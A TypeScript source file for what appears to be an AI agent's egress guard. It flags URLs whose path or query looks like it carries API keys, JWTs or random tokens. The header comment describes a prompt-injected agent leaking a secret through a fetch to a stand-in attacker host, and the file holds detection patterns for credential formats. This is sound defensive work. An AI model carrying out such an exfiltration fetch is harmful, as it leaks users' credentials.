/**
 * Does a URL carry what looks like a key or token? (pure core)
 *
 * An agent that was prompt-injected can leak a secret by fetching
 * `https://attacker.example/?k=<secret>`. This check looks at the path and the query (decoded;
 * the fragment and userinfo never leave: the guard drops the one and refuses the other) for:
 *
 * - a known key prefix: `sk-…` (OpenAI, Anthropic), `sk_live_`/`sk_test_` (Stripe), `ghp_`,
 *   `gho_`, `ghu_`, `ghs_`, `ghr_`, `github_pat_` (GitHub), `AKIA`/`ASIA` + 16 (AWS access key
 *   ids), `xoxb-`/`xoxp-`/… (Slack);
 * - a JWT (`eyJ….….…`: three base64url parts, the first a JSON object);
 * - a run of 40 or more hex digits;
 * - a run of 32 or more characters of `[A-Za-z0-9+/_=]` (in the path: within one segment) that
 *   mixes digits with letters and looks random: not hex only (that is the rule above), and changing between lower case, upper case and
 *   digits at least every third character on average. Word slugs (`the-quick-brown-fox`,
 *   `2024_United_States_presidential_election`) change class only at word starts; ordinary ids
 *   (UUIDs, ISBNs, numeric ids) are shorter runs or broken up by hyphens.
 *
 * The host is not checked: DNS labels are short and lower case, and a name that carries data is
 * outside what the deny list or this heuristic can judge. Runs in linear time: every pattern is a
 * single character class with a bounded minimum, no nested quantifiers.
 */

/** Which rule matched: for the log line and the metric, never shown with the matched text. */
export type UrlSecretKind = "key-prefix" | "jwt" | "hex-run" | "random-run";

export const MIXED_RUN_LENGTH = 32;
export const HEX_RUN_LENGTH = 40;

const KEY_PREFIX =
  /(?:^|[^A-Za-z0-9])(?:sk-(?:proj-|ant-)?(?=[A-Za-z0-9_-]*\d)(?=[A-Za-z0-9_-]*[A-Za-z])[A-Za-z0-9_-]{20,}|sk_(?:live|test)_[A-Za-z0-9]{16,}|gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{30,}|(?:AKIA|ASIA)[0-9A-Z]{16}(?![0-9A-Za-z])|xox[abposr]-\d+-[A-Za-z0-9-]{8,})/;
const JWT = /eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/;
const HEX_RUN = new RegExp(`[0-9a-fA-F]{${HEX_RUN_LENGTH},}`);
const MIXED_RUN = new RegExp(`[A-Za-z0-9+/_=]{${MIXED_RUN_LENGTH},}`, "g");

/** The first rule a URL's path or query matches, or undefined. */
export function findUrlSecret(url: URL): UrlSecretKind | undefined {
  // Path segments one by one: "/" separates words in a path (`/avatar/<md5>`, `/2024/05/<slug>`),
  // while in a query value it may be part of a base64 token, so values are judged whole.
  const parts = url.pathname.split("/").map(decodeLoosely);
  for (const [name, value] of url.searchParams) parts.push(name, value);
  for (const part of parts) {
    const kind = classifyText(part);
    if (kind !== undefined) return kind;
  }
  return undefined;
}

/** The rule a piece of text matches, or undefined (exported for tests). */
export function classifyText(text: string): UrlSecretKind | undefined {
  if (KEY_PREFIX.test(text)) return "key-prefix";
  if (JWT.test(text)) return "jwt";
  if (HEX_RUN.test(text)) return "hex-run";
  for (const match of text.matchAll(MIXED_RUN)) {
    if (looksRandom(match[0])) return "random-run";
  }
  return undefined;
}

type CharClass = 0 | 1 | 2 | 3; // digit, lower, upper, other

function classOf(code: number): CharClass {
  if (code >= 48 && code <= 57) return 0;
  if (code >= 97 && code <= 122) return 1;
  if (code >= 65 && code <= 90) return 2;
  return 3;
}

function looksRandom(run: string): boolean {
  let alnum = 0;
  let digits = 0;
  let hexOnly = true;
  let changes = 0;
  let previous: CharClass | undefined;
  for (let i = 0; i < run.length; i += 1) {
    const code = run.charCodeAt(i);
    const cls = classOf(code);
    if (cls === 3) continue;
    alnum += 1;
    if (cls === 0) digits += 1;
    else if (!((code >= 97 && code <= 102) || (code >= 65 && code <= 70))) hexOnly = false;
    if (previous !== undefined && cls !== previous) changes += 1;
    previous = cls;
  }
  if (alnum < MIXED_RUN_LENGTH || digits === 0 || digits === alnum || hexOnly) return false;
  return changes * 10 >= alnum * 3;
}

function decodeLoosely(path: string): string {
  try {
    return decodeURIComponent(path);
  } catch {
    return path;
  }
}
